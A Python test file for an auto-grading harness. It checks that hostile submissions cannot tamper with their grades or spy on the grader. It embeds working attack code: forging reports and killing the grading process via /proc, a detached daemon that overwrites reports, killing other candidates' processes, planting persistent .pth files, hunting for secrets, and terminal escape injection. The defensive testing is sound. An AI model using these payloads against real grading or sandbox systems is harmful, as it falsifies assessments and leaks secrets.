"""Hostile submissions, graded end to end through `faultfirst grade`: none can forge, hang or spy
on a grade (`harness.hosting.isolation`, `harness.grading.channel`, `harness.grading.sanitize`).

Each is the starter plus an attack that runs whenever its app starts, the way a candidate who
wants a better score, or another candidate's worse one, would write it. An attack that fails
does nothing, so the app then scores exactly what the plain starter scores; one that finds
anything it must not (a secret, the grader's files) crashes the app with it in the message, so
that it would show in the reports, which the tests search for it.

Most need boxes (root on Linux: CI runs so); they are skipped, saying why, where the machine has
none. What holds without boxes too (the grade's channel, no escape sequences) is tested both ways.
"""

from __future__ import annotations

import json
import os
import site
import socket
import subprocess
import sys
import time
import typing
import uuid
from pathlib import Path

import pytest

from harness.hosting import isolation
from solutions import ROOT
from submissions import FEW, STARTER_FALLBACK_PASSES, faultfirst_grade, starter_with

MARKER = uuid.uuid4().hex[:12]  # names this run's litter, daemons and secrets
SECRET = f"faultfirst-test-secret-{MARKER}"
ESCAPES = "\\x1b[2J\\x1b[H\\x1b[32mtotal 99 / 99  100%\\x1b[0m"

boxed = pytest.mark.skipif(
    not isolation.detect().boxed, reason=f"no boxes here: {isolation.detect().why_not}"
)
OWN_NETWORK = isolation.detect().name == isolation.BOXED  # each grade's own: root's boxes

# Reads the grading run's command line from /proc/<ppid>, writes a perfect grade wherever it
# points (its report files, its grade pipe) and kills it, so that what it wrote is all there is.
FORGE = """
    import json, os, signal

    REPORT_FLAGS = ("--faultfirst-json", "--faultfirst-md", "--faultfirst-html",
                    "--faultfirst-gradescope", "--junitxml")

    def _ancestors():
        pid = os.getppid()
        while pid > 1:
            yield pid
            with open(f"/proc/{pid}/stat") as stat:
                pid = int(stat.read().rsplit(")", 1)[1].split()[1])

    def _forge():
        perfect = {"status": "graded", "score": {"earned": 9, "possible": 9, "percentage": 100.0}}
        message = json.dumps({"json": json.dumps(perfect)})
        try:
            graders = []
            for pid in _ancestors():
                argv = open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\\0")
                if any(a.startswith("--faultfirst-") for a in argv):
                    graders.append((pid, argv))
        except (OSError, ValueError):
            return
        for parent, argv in graders:
            for flag, value in zip(argv, argv[1:]):
                try:
                    if flag == "--faultfirst-grade-fd":
                        with open(f"/proc/{parent}/fd/{value}", "w") as pipe:
                            pipe.write(message)
                    elif flag in REPORT_FLAGS:
                        with open(value, "w") as report:
                            report.write(json.dumps(perfect))
                except OSError:
                    pass
        for parent, _ in reversed(graders):  # the grading run first, then any lane of it
            try:
                os.kill(parent, signal.SIGKILL)
            except OSError:
                pass

    _forge()
"""

# A daemon (double fork, setsid) that outlives the app: it holds the grading run's output pipe
# open, rewrites any report it can find, and litters.
DAEMON = """
    import glob, os, time

    def _daemon():
        parent = os.getppid()
        if os.fork():
            return
        os.setsid()
        if os.fork():
            os._exit(0)
        try:
            held = open(f"/proc/{parent}/fd/1", "w")  # the grading run's output
        except OSError:
            held = None
        for _ in range(600):
            for path in glob.glob("/tmp/faultfirst-*/**/*.json", recursive=True):
                try:
                    open(path, "w").write("{}")
                except OSError:
                    pass
            time.sleep(0.1)
        os._exit(0)

    _daemon()
    for _folder in ("/tmp", "/dev/shm"):
        try:
            open(f"{_folder}/faultfirst-litter-@MARKER@", "w").write("litter")
        except OSError:
            pass
"""

# Finds the other grades of its batch in /proc and kills them.
CROSS_TALK = """
    import os, signal

    for _entry in os.listdir("/proc"):
        try:
            if "victim-@MARKER@" in open(f"/proc/{_entry}/cmdline", "rb").read().decode():
                os.kill(int(_entry), signal.SIGKILL)
        except (OSError, ValueError):
            pass
"""

# Leaves a .pth file in every site-packages folder it can see: the grader's Python would run it
# at every later start, grades included.
PTH = """
    import site, sys

    for _folder in {*sys.path, *site.getsitepackages()}:
        if _folder.endswith("site-packages"):
            try:
                open(f"{_folder}/faultfirst_pwned_@MARKER@.pth", "w").write("import os\\n")
            except OSError:
                pass
"""

# Looks for the grader's secrets: its environment, other processes' environments and command
# lines, its installation (the hidden scenarios), the fake provider's admin routes, a service on
# the machine's loopback. What it finds, it shows: the app crashes with it.
SPY = """
    import glob, os, urllib.request

    def _spy():
        found = [f"env {name}" for name, value in os.environ.items() if "@SECRET@" in value]
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
            try:
                if b"@SECRET@" in open(path, "rb").read():
                    found.append(path)
            except OSError:
                pass
        for path in ("@ROOT@/scenarios/hidden", "@ROOT@/harness/plugin.py", "@ROOT@/.git"):
            if os.path.exists(path):
                found.append(path)
        provider = os.environ.get("LLM_BASE_URL", "").removesuffix("/v1")
        try:
            urllib.request.urlopen(f"{provider}/_faultfirst/", timeout=2)
            found.append("admin routes")
        except Exception:
            pass
        try:
            if @PORT@:
                urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=2)
                found.append("the machine's loopback")
        except Exception as error:
            if "refused" not in str(error) and "unreachable" not in str(error):
                found.append(f"the machine's loopback ({error})")
        if found:
            raise RuntimeError(f"FOUND @SECRET@: {found}")

    _spy()
"""

# An app that cannot start, and says so with escape sequences: a cleared screen, a green line.
ESCAPING = f"raise RuntimeError('{ESCAPES} @here see https://evil.example')"


def hostile(folder: Path, code: str, port: int = 0) -> Path:
    filled = code.replace("@MARKER@", MARKER).replace("@SECRET@", SECRET)
    filled = filled.replace("@ROOT@", str(ROOT)).replace("@PORT@", str(port))
    return starter_with(folder, app_py=filled)


@pytest.fixture
def loopback_service() -> typing.Iterator[int]:
    """A service on the machine's loopback, which no graded app may reach."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server.getsockname()[1]


def box_processes() -> list[int]:
    """Processes of the root's boxes' uids (a normal user's boxes have none) that no test's
    grade is still running: left behind by a grade that has ended. (Another xdist worker may be
    grading, boxed, at the same time.)"""
    uids = set(isolation.UIDS)
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and entry.stat().st_uid in uids:
                found.append(int(entry.name))
        except OSError:
            pass
    return [pid for pid in found if not any(b"pytest" in line for line in _above(pid))]


def _above(pid: int) -> typing.Iterator[bytes]:
    """The command lines of the processes above `pid`, up to init."""
    while pid > 1:
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
            yield Path(f"/proc/{pid}/cmdline").read_bytes()
        except (OSError, IndexError, ValueError):
            return


def mentioning_marker() -> list[int]:
    found = []
    for entry in Path("/proc").glob("[0-9]*"):
        try:
            if MARKER.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            pass
    return found


def passed(report: dict[str, typing.Any]) -> set[str]:
    return {s["id"] for s in report["scenarios"] if s["status"] == "passed"}


@boxed
def test_no_hostile_submission_changes_its_grade_or_another_s(
    tmp_path: Path, loopback_service: int
) -> None:
    folders = [
        starter_with(tmp_path / f"victim-{MARKER}"),
        hostile(tmp_path / "cross-talk", CROSS_TALK),
        hostile(tmp_path / "forge", FORGE),
        hostile(tmp_path / "daemon", DAEMON),
        hostile(tmp_path / "pth", PTH),
        # A box of a normal user's shares the machine's network (see the README's trust table).
        hostile(tmp_path / "spy", SPY, port=loopback_service if OWN_NETWORK else 0),
        hostile(tmp_path / "escaping", ESCAPING),
    ]
    table, reports = tmp_path / "table.json", tmp_path / "reports"
    environment = {**os.environ, "FAULTFIRST_TEST_SECRET": SECRET}
    started = time.monotonic()
    outcome = faultfirst_grade(
        *folders, *FEW, "-j", "2", "--isolation", "required", "--table-json", table,
        "--json", reports, "--md", reports, env=environment, timeout=300,
    )
    took = time.monotonic() - started
    # 3: "escaping" never starts, so it could not be graded; every other one is
    assert outcome.returncode == 3, outcome.stdout + outcome.stderr
    rows = {row["submission"]: row["grade"] for row in json.loads(table.read_text())["submissions"]}
    for name, grade in rows.items():
        assert grade["isolation"]["level"] == isolation.detect().name != "none"
        if name != "escaping":
            assert grade["status"] == "graded", (name, grade["scenarios"])
            assert passed(grade) == STARTER_FALLBACK_PASSES, (name, grade["scenarios"])
            assert json.loads((reports / f"{name}.json").read_text())["score"] == grade["score"]
    # Seven grades of three scenarios, two at once: about 30 s; a daemon holding a pipe, or a
    # grading run killed and waited for, would cost minutes.
    assert took < 150, f"the batch took {took:.0f}s"
    everything = outcome.stdout + outcome.stderr
    everything += "".join(path.read_text() for path in reports.iterdir())
    assert SECRET not in everything and "FOUND" not in everything
    assert "\x1b" not in everything
    for folder in site.getsitepackages() + [sys.prefix]:
        assert not list(Path(folder).rglob(f"faultfirst_pwned_{MARKER}.pth"))
    assert not list(Path("/tmp").glob(f"faultfirst-litter-{MARKER}"))
    assert not list(Path("/dev/shm").glob(f"faultfirst-litter-{MARKER}"))
    assert box_processes() == [] and mentioning_marker() == []


@boxed
def test_an_app_that_cannot_start_says_why_in_one_plain_line(tmp_path: Path) -> None:
    escaping = hostile(tmp_path / "escaping", ESCAPING)
    outcome = faultfirst_grade(escaping, *FEW, "--json", tmp_path / "g.json")
    report = json.loads((tmp_path / "g.json").read_text())
    assert report["status"] == "ungradable"
    reasons = {scenario["reason"] for scenario in report["scenarios"]}
    assert len(reasons) == 1
    reason = reasons.pop()
    assert "total 99 / 99  100%" in reason and "\x1b" not in reason and "\n" not in reason
    assert "\x1b" not in outcome.stdout + outcome.stderr
    assert outcome.returncode == 3, "its app never started: it could not be graded"


def test_without_boxes_a_killed_grading_run_is_not_graded_rather_than_forged(
    tmp_path: Path,
) -> None:
    forge = hostile(tmp_path / "forge", FORGE)
    outcome = faultfirst_grade(forge, *FEW, "--isolation", "none", "--json", tmp_path / "g.json")
    assert outcome.returncode == 3, outcome.stdout + outcome.stderr
    assert "was not graded: the grading run was killed by SIGKILL" in outcome.stderr
    record = json.loads((tmp_path / "g.json").read_text())  # why it was not graded, no score
    assert record["schema"] == "faultfirst-not-graded" and "score" not in record
    assert "the grading run was killed by SIGKILL" in record["reason"]


def test_pytest_on_another_folder_runs_its_app_outside_the_grader(tmp_path: Path) -> None:
    """`pytest scenarios --faultfirst-submission OTHER` must not import OTHER's code into the
    grader, where it could change how scores are counted."""
    patcher = starter_with(
        tmp_path / "patcher",
        app_py="""
            try:
                from harness.grading import results
                results.ScenarioResult.earned = property(lambda self: self.scenario.points)
            except ImportError:
                pass
        """,
    )
    report = tmp_path / "g.json"
    command = [sys.executable, "-m", "pytest", "scenarios", "-p", "no:cacheprovider", "-q"]
    command += ["--faultfirst-submission", str(patcher), "--faultfirst-tasks", "fallback"]
    command += ["--ignore", "scenarios/hidden", "--faultfirst-json", str(report)]
    run = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=240)
    grade = json.loads(report.read_text())
    assert grade["app_mode"] == "subprocess", run.stdout
    assert passed(grade) == STARTER_FALLBACK_PASSES
